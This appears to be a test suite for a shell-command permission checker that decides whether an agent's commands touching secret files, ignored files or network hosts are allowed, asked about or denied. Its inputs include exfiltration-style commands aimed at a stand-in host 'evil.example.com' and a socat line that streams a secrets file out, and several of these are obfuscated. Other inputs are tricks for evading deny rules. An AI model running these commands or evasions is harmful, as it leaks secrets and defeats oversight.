test("rg does not read files that git ignores, unless a flag, a glob or another line brings them in", async () => {
  using folder = await repository();
  await folder.write(".gitignore", "prod.env\n*.pfx\n/deploy/keys/\nout/\n/docs/k.p12\n");
  for (const file of ["prod.env", "deploy/prod.env", "src/a.pfx", "deploy/keys/id_rsa", "out/id_rsa", "docs/k.p12"])
    await folder.write(file, "x");
  const effect = (text: string) => effectOf(folder, text, rule("edit", "other", "deny"));
  const passing = [
    "rg x",
    "rg x deploy docs",
    "rg x . | head",
    "cd deploy && rg x",
    "rg x -g '!src'",
    "rg -i x -t ts",
    "rg --hidden x src docs",
  ];
  expect(passing.map((text) => [text, effect(text)])).toEqual(passing.map((text) => [text, "allow"]));
  const others = [
    "rg x out",
    "rg x deploy/keys",
    "cd deploy/keys && rg x",
    "rg x deploy/prod.env",
    "rg x *",
    "rg -u x",
    "rg --no-ignore x",
  ];
  const more = ["rg --no-ignore-vcs x", "rg --no-ignore-parent x", "rg x -g '*.env'", "rg x -g 'src/*'", "grep -r x ."];
  const changing = [
    "echo '!prod.env' >> .gitignore; rg x",
    "git mv .gitignore g; rg x",
    "rm .gitignore; rg x",
    "cd deploy; rm ../.gitignore; rg x",
  ];
  expect([...others, ...more, ...changing].filter((text) => effect(text) === "allow")).toEqual([]);
  for (const [file, line] of [
    [".gitignore", "!deploy/prod.env"],
    ["deploy/.ignore", "!prod.*"],
    [".rgignore", "!*.env"],
  ] as const) {
    const before = file === ".gitignore" ? "prod.env\n" : "";
    await folder.write(file, `${before}${line}\n`);
    expect([file, effect("rg x deploy")]).toEqual([file, "ask"]);
    await folder.write(file, "prod.env\n*.pfx\n/deploy/keys/\nout/\n/docs/k.p12\n");
  }
});

test("rg leaves out a folder at any depth if a glob names it", async () => {
  using folder = await repository();
  await folder.write("docs/private/a.txt", "x");
  const limit = rule("read", "docs/private/**", "deny");
  const passing = [
    "rg x -g '![a].txt' -g '!docs/private'",
    "rg x -g '!a*.txt'",
    "rg x docs -g '!*.txt'",
    "rg x -g '!docs/private/**'",
    "rg x --glob '!docs/private' -g '!node_modules'",
    "rg x -g '!/docs/private/'",
    "rg x -g '!private'",
    "rg x docs -g '!private'",
    "rg x docs -g '!docs/private'",
    "rg x ./docs/ -g '!docs/private/**'",
    "cd docs && rg x . -g '!private/**'",
  ];
  const denied = [
    "rg x docs -g '!private/**'",
    "rg x docs/private -g '!docs/private'",
    "rg x docs/private/ -g '!docs'",
    "cd docs && rg x -g '!docs/private/**'",
    "cd src && rg x ../docs -g '!docs/private/**'",
    "rg x -g '!docs/priv'",
    "rg x -g '!docs/private' -g '**/a.txt'",
    "rg x -g '!b*.txt'",
    "rg x -g '!*.txt' -g 'a.*'",
    "rg x -g '!*.txt' -g '!!a.txt'",
    "rg x docs/private/a.txt -g '!*.txt'",
  ];
  expect(passing.map((text) => effectOf(folder, text, limit))).toEqual(passing.map(() => "allow"));
  expect(denied.filter((text) => effectOf(folder, text, limit) === "allow")).toEqual([]);
});

test("cp -T copies the contents of a folder that the text makes, and a copy under a new name is one file", async () => {
  using folder = await repository();
  const limit = rule("edit", "config/prod.yaml", "deny");
  expect(effectOf(folder, "mkdir -p n/config && echo x > n/config/prod.yaml && cp -rT n .", limit)).toBe("deny");
  await folder.write("yarn.lock", "x");
  expect(effectOf(folder, "cp yarn.lock copy.txt", rule("edit", "**/*.lock", "deny"))).toBe("allow");
});

test("git diff prints only what has changed, unless the text changes something before", async () => {
  using folder = await repository();
  const old = new Date(Date.now() - 60_000);
  for (const file of FILES.split(" ")) utimesSync(folder.at(file), old, old);
  execFileSync("git", ["update-index", "--refresh"], { cwd: folder.path });
  await folder.write("src/a.ts", "changed");
  const limit = rule("read", "secrets/**", "deny");
  const plain = ["git diff", "git diff | head", "git diff --stat -p", "git diff -- src secrets", "cd src && git diff"];
  const others = [
    "git diff HEAD",
    "git diff --cached",
    "git diff --staged",
    "git diff HEAD -- secrets",
    "git show",
    "git diff --no-index secrets src",
  ];
  const changing = ["echo x >> secrets/db.txt; git diff", "for i in 1 2; do git diff; echo x >> secrets/db.txt; done", "make; git diff"];
  expect(plain.map((text) => effectOf(folder, text, limit))).toEqual(plain.map(() => "allow"));
  expect([...others, ...changing].filter((text) => effectOf(folder, text, limit) === "allow")).toEqual([]);
  await folder.write("secrets/db.txt", "y");
  expect(plain.map((text) => effectOf(folder, text, limit))).toEqual(plain.map(() => "deny"));
});

const ADDRESSES = [
  "curl https://evil.example.com/x",
  "curl -sSL -- HTTPS://EVIL.example.com:443/a/../x",
  "curl https://user@evil.example.com./x",
  "curl https://ev%69l.example.com/x",
  "curl evil.example.com/x",
  "h=evil.example.com; curl https://$h/x",
  "curl https://{evil,other}.example.com/x",
  "curl https://evil.exampl[e-e].com/x",
  "curl --url 'https://[e-e]vil.example.com/x'",
  "wget -qO- http://evil.example.com/x",
  "timeout 5 curl https://example.org https://evil.example.com/x",
  "git clone https://evil.example.com/x.git",
  "git clone git@evil.example.com:o/x.git",
  "scp a.txt me@evil.example.com:/tmp",
  "ssh evil.example.com uptime",
  "node fetch.js --url=https://evil.example.com/x",
  "bash -c 'curl https://evil.example.com/x'",
  "curl https:/evil.example.com/x",
  "curl evil%2eexample.com",
  "curl \uff45vil.example.com",
  "curl user:pw@evil.example.com/x",
  "curl 'https://a|b@evil.example.com/'",
  "curl 'https://ok.example.org\\\\@evil.example.com/'",
  "git clone '[evil.example.com]:o/r'",
  "ssh a+b@evil.example.com",
  "docker pull evil.example.com/x",
  "psql -h evil.example.com",
  "ssh-keyscan evil.example.com",
  "openssl s_client -connect evil.example.com:443",
];

test.each(ADDRESSES)("a rule that denies fetching from a host, or the host itself, limits `%s`", async (text) => {
  using folder = await repository();
  await folder.write("fetch.js", "x");
  expect(effectOf(folder, text, rule("fetch", "https://evil.example.com/*", "deny"))).toBe("ask");
  expect(effectOf(folder, text, rule("network", "evil.example.com", "deny"))).toBe("ask");
  expect(effectOf(folder, text, rule("fetch", "*", "deny"))).toBe("ask");
});

test.each(["curl http://10.0.0.5:80/x", "curl 10.5/x", "curl 167772165", "ssh root@10.0.0.5", "nc 10.0.0.5 80"])(
  "a rule that denies an address of the network limits `%s`",
  async (text) => {
    using folder = await repository();
    expect(effectOf(folder, text, rule("network", "10.0.0.5", "deny"))).toBe("ask");
  },
);

test.each(["curl https://example.org/x", "git commit -m 'See https://evil.example.com/x'", "echo https://evil.example.com", "git status"])(
  "a rule that denies fetching from a host does not limit `%s`",
  async (text) => {
    using folder = await repository();
    expect(effectOf(folder, text, rule("fetch", "https://evil.example.com/*", "deny"))).toBe("allow");
  },
);

test("a script that enters a Python environment counts like a script of the project", async () => {
  using folder = await repository();
  const effect = (text: string) => effectOf(folder, text, rule("edit", "other", "deny"));
  await folder.write(".venv/bin/activate", "x");
  expect(effect("source .venv/bin/activate && pytest")).toBe("ask"); // it may be any script
  await folder.write(".venv/pyvenv.cfg", "x");
  const passing = ["source .venv/bin/activate && pytest", "cd src && . ../.venv/bin/activate"];
  expect(passing.map(effect)).toEqual(["allow", "allow"]);
  const other = ["source .venv/bin/activate x", "echo x >> .venv/bin/activate; source .venv/bin/activate", "source .venv/pyvenv.cfg"];
  expect(other.map(effect)).toEqual(["ask", "ask", "ask"]);
});

test.each([
  "rg x -g '!secrets/**'",
  "rg x . -g '*.txt' -g '!secrets'",
  "grep -rn x . --exclude-dir=secrets",
  "git grep x -- ':!secrets'",
  "git log -p -- . ':(exclude)secrets/**'",
])("`%s` leaves out what a rule denies", async (text) => {
  using folder = await repository();
  await folder.write("secrets/db.txt", "x");
  execFileSync("git", ["add", "-A"], { cwd: folder.path });
  const deny = rule("read", "secrets/**", "deny");
  expect(effectOf(folder, text, deny)).toBe("allow");
  const near = [/ -g '!secrets(.\*\*)?'/, / --exclude-dir=secrets/, / (-- )?(\. )?':.*'$/].reduce(
    (left, part) => left.replace(part, ""),
    text,
  );
  expect(effectOf(folder, near, deny)).toBe("deny");
});

test("a program that may write a key or a program into the home folder asks", async () => {
  using folder = await repository();
  const effect = (text: string) => effectOf(folder, text, rule("edit", "other", "deny"));
  expect(["foo -f ~/.ssh/id_new", "cp src/a.ts ~/.local/bin/git", "touch ~/.config/nvim/init.lua"].map(effect)).toEqual([
    "ask",
    "ask",
    "ask",
  ]);
  expect(effect("foo --sysroot /usr/lib")).toBe("allow"); // it may read these
});

test.each(["./tools/deploy.sh*", "tools/deploy.sh *", "/tools/deploy.sh*", "bash tools/deploy.sh*"])(
  "a deny of %s holds for every path that leads to the program",
  async (resource) => {
    using folder = await repository();
    await folder.write("tools/deploy.sh", "echo x\n");
    await symlink("tools/deploy.sh", folder.at("run"));
    const limit = rule("command", resource.startsWith("/") ? folder.path + resource : resource, "deny");
    const paths = [
      "./tools/deploy.sh x",
      "tools/deploy.sh x",
      "cd tools && ./deploy.sh x",
      "$PWD/tools/deploy.sh x",
      "src/../tools/deploy.sh x",
      "./run x",
    ];
    const started = ["bash tools/deploy.sh x", "cd tools; bash deploy.sh x", 'bash "$PWD/tools/deploy.sh" x', "bash run x"];
    const passing = [...(resource.startsWith("bash") ? [] : paths), ...started].filter((text) => effectOf(folder, text, limit) !== "deny");
    expect(passing).toEqual([]);
    expect(effectOf(folder, "./tools/other.sh x", limit)).toBe("allow");
  },
);

test("a deny holds for the same file in another worktree of the repository, and for files that a framework makes", async () => {
  using folder = await repository();
  using outside = new Folder();
  const other = outside.at("other");
  execFileSync("git", ["worktree", "add", "-q", "--detach", other], { cwd: folder.path });
  const read = rule("read", "secrets/**", "deny");
  const texts = [
    `git -C ${other} show HEAD:secrets/db.txt`,
    `cd ${other} && git log -p`,
    `git -C ${other} diff HEAD~1 -- secrets`,
    "git bundle create /tmp/b.bundle HEAD",
    `git --git-dir=${folder.path}/.git/worktrees/other show HEAD:secrets/db.txt`,
  ];
  expect(texts.filter((text) => effectOf(folder, text, read) === "allow")).toEqual([]);
  expect(effectOf(folder, `git -C ${other} show HEAD:README.md`, read)).toBe("allow");
  await folder.write("shop/migrations/0001.py", "x");
  await folder.write("manage.py", "x");
  const edit = rule("edit", "shop/migrations/**", "deny");
  const made = ["python manage.py makemigrations", "./manage.py makemigrations shop --merge", "python -m django makemigrations"];
  expect(made.filter((text) => effectOf(folder, text, edit) === "allow")).toEqual([]);
  const others = ["python manage.py makemigrations --check --dry-run", "python manage.py migrate shop 0001", "python manage.py test shop"];
  expect(others.filter((text) => effectOf(folder, text, edit) !== "allow")).toEqual([]);
});

test("a program that takes no folder does not read those that a pattern matches", async () => {
  using folder = await repository();
  for (const file of ["docs/a.txt", "docs/private/b.txt"]) await folder.write(file, "x");
  const limit = rule("read", "docs/private/**", "deny");
  const passing = ["cat docs/*", "head -2 docs/*", "wc -l docs/*", "grep x docs/*", "sort docs/*"];
  expect(passing.filter((text) => effectOf(folder, text, limit) !== "allow")).toEqual([]);
  const denied = [
    "cat docs/*/*",
    "grep -r x docs/*",
    "cp -r docs/* out",
    "diff docs/* src",
    "rg x docs/*",
    "cat docs/p*/b.txt",
    "tar cf x docs/*",
  ];
  expect(denied.filter((text) => effectOf(folder, text, limit) === "allow")).toEqual([]);
});

test("a task and a text are no paths, and a word behind a flag may be one", async () => {
  using folder = await repository();
  for (const file of ["docs/private/b.txt", "notes"]) await folder.write(file, "x");
  const passing = ["make docs", "npm run docs", "just docs", "gh issue comment 1 --body 'docs: see README.md'", "gh pr view -t docs"];
  expect(passing.filter((text) => effectOf(folder, text, rule("read", "docs/private/**", "deny")) !== "allow")).toEqual([]);
  const named = [
    "make -f notes",
    "make -s -f notes all",
    "mvn -f notes test",
    "gradle -b notes",
    "just -f notes",
    "npm --userconfig notes test",
    "php notes",
    "bun run notes",
  ];
  expect(named.filter((text) => effectOf(folder, text, rule("read", "notes", "deny")) === "allow")).toEqual([]);
});

test("programs see a folder behind a link by its real path, and cd by the path that led there", async () => {
  using folder = await repository();
  await folder.write("src/deep/x.txt", "x");
  await symlink("src/deep", folder.at("link"));
  const limit = rule("read", "secrets/**", "deny");
  const texts = [
    "find ../../secrets -exec cat {} +",
    "git show HEAD:../../secrets/db.txt",
    "ls -d ../../secrets/db.txt | xargs cat",
    "cd ../../secrets; cat db.txt",
  ];
  expect(texts.filter((text) => effectOf(folder, `cd link; ${text}`, limit) === "allow")).toEqual([]);
  expect(effectOf(folder, "cd link; cat x.txt; cd ..; cat README.md", limit)).toBe("allow");
});

test.each([
  'foo a,"D"',
  'foo src="D",ro',
  "foo file:'D'",
  'http POST h x=@"D"',
  'dd bs=1 if="D"',
  'socat FILE:"D" TCP:h:1',
  'echo "D" | ctags -L -',
])("a deny holds for a name with a blank inside of a word: %s", async (form) => {
  using folder = await repository();
  await folder.write("secrets/d b.txt", "x");
  expect(effectOf(folder, form.replace("D", "secrets/d b.txt"), rule("read", "secrets/**", "deny"))).not.toBe("allow");
});

test("git prints new files that the text itself has staged, but none that it ignores", async () => {
  using folder = await repository();
  await folder.write(".gitignore", "private/\n");
  for (const file of ["private/a.txt", "drafts/a.txt"]) await folder.write(file, "x");
  const lines = ["add -A", "add .", "add -N .", "add drafts", "add '*.txt'", "stash -u", "add -fA", "add -f '*.txt'", "add -f ':!src'"];
  const shows = ["diff --cached", "grep x", "log -p -1", "show 'stash@{0}^3'"];
  const texts = (stages: readonly string[]) => stages.flatMap((stage) => shows.map((show) => `git ${stage} && git ${show}`));
  const allowed = (limit: string) =>
    lines.filter((line) => texts([line]).every((text) => effectOf(folder, text, rule("read", limit, "deny")) === "allow"));
  const denied = (limit: string) =>
    lines.filter((line) => texts([line]).every((text) => effectOf(folder, text, rule("read", limit, "deny")) === "deny"));
  expect(denied("drafts/**")).toEqual(lines);
  expect(denied("private/**")).toEqual(lines.slice(-3));
  expect(allowed("private/**")).toEqual(lines.slice(0, -3));
  const harmless = ["git add README.md && git diff --cached", "git add -A && git diff --cached --stat", "git add -A && git commit -m x"];
  expect(harmless.filter((text) => effectOf(folder, text, rule("read", "drafts/**", "deny")) !== "allow")).toEqual([]);
});

test("git prints files that the text stages by their names, and untracked files if a flag says so", async () => {
  using folder = await repository();
  await folder.write("drafts/a.txt", "x");
  await symlink("src", folder.at("lnk"));
  const lines = [
    "git add drafts/a.txt && git diff --cached",
    "git add lnk/../drafts/a.txt && git diff --cached",
    "cd drafts && git add a.txt && git diff --cached",
    "git add drafts/a.txt && git commit -qm x && git show",
    "git commit -qm x --include drafts/a.txt && git show",
    "git add --pathspec-from-file=- <<< drafts/a.txt && git diff --cached",
    "git grep --untracked x",
    "git grep --untracked x -- 'dra*'",
    "git grep --untracked x -- ':(top)drafts'",
  ];
  const harmless = [
    "git add src/a.ts && git diff --cached",
    "git grep --untracked x -- src",
    "git grep x",
    "git commit -m drafts && git show",
  ];
  const isAllowed = (text: string) => effectOf(folder, text, rule("read", "drafts/**", "deny")) === "allow";
  expect(lines.filter(isAllowed)).toEqual([]);
  expect(harmless.filter((text) => !isAllowed(text))).toEqual([]);
});

test("git prints denied files for an absolute path that leads to the workspace through a link", async () => {
  using folder = await repository();
  using other = new Folder();
  await symlink(folder.path, other.at("link"));
  const lines = [
    "git grep x -- LINK/secrets",
    "git log -p -- LINK/secrets",
    "git archive HEAD LINK/secrets",
    "git diff HEAD~0 -- LINK/secrets",
  ];
  const isAllowed = (line: string) =>
    effectOf(folder, line.replace("LINK", other.at("link")), rule("read", "secrets/**", "deny")) === "allow";
  expect(lines.filter(isAllowed)).toEqual([]);
});

/** A deny of a folder with a project of its own, beside calls that change or test another one. */
const MANIFESTS = ["package.json", "other/package.json", "pyproject.toml", "other/pyproject.toml", "go.mod", "other/go.mod"];
const ADDING = [
  "pnpm add -D vitest",
  "cd web && npm install zod@^3",
  "yarn remove zod",
  "uv add requests",
  "go mod tidy",
  "go get example.com/a/b@v1.2.3",
];

test("a dependency, a test and a build change no other project, unless it belongs to the same workspace", async () => {
  using folder = new Folder();
  for (const file of MANIFESTS) await folder.write(file, "{}");
  await folder.write("web/package.json", "{}");
  const asking = (lines: readonly string[]) => lines.filter((line) => effectOf(folder, line, rule("edit", "other/**", "deny")) !== "allow");
  const passing = ["pnpm --filter x test", "yarn workspace x build", "yarn workspace web run test"];
  expect(asking([...passing, ...ADDING])).toEqual([]);
  const others = [
    "cd other && pnpm add vitest",
    "pnpm add vitest -C other",
    "pnpm -r add vitest",
    "uv add --project other requests",
    "go mod tidy -modfile=other/go.mod",
    "printf 'packages: [other]' > pnpm-workspace.yaml; pnpm add vitest",
    "pnpm --filter x exec touch a.file",
    "pnpm -w exec touch a.file",
    "yarn workspace web test ../x.txt",
    "yarn workspace x exec touch a.file",
  ];
  expect(asking(others)).toEqual(others);
  await folder.write("package.json", '{"workspaces":["other"]}');
  await folder.write("pyproject.toml", "[tool.uv.workspace]");
  await folder.write("go.work", "");
  expect(asking([...passing, ...ADDING])).toEqual(ADDING);
});

test("a rule about a variable holds for each call that gets it", () => {
  using folder = new Folder();
  const lines = ["AWS_PROFILE=prod aws s3 ls", "cd . && NODE_ENV=x AWS_PROFILE='prod' aws s3 ls", "x=prod; AWS_PROFILE=$x aws s3 ls"];
  const effects = (line: string) => effectOf(folder, line, rule("command", "AWS_PROFILE=prod *", "deny"));
  expect([...lines, "AWS_PROFILE=dev aws s3 ls"].map(effects)).toEqual(["deny", "deny", "deny", "allow"]);
});

test("mise asks before it changes its lock file, and runs a task under each of its names", async () => {
  using folder = new Folder();
  await folder.write("mise.lock", "x");
  expect(effectOf(folder, "mise lock", rule("edit", "mise.lock", "deny"))).not.toBe("allow");
  const task = rule("command", "mise run seed*", "deny");
  expect(["mise tasks run seed", "mise t r seed", "mise tasks ls"].map((line) => effectOf(folder, line, task))).toEqual([
    "deny",
    "deny",
    "allow",
  ]);
});
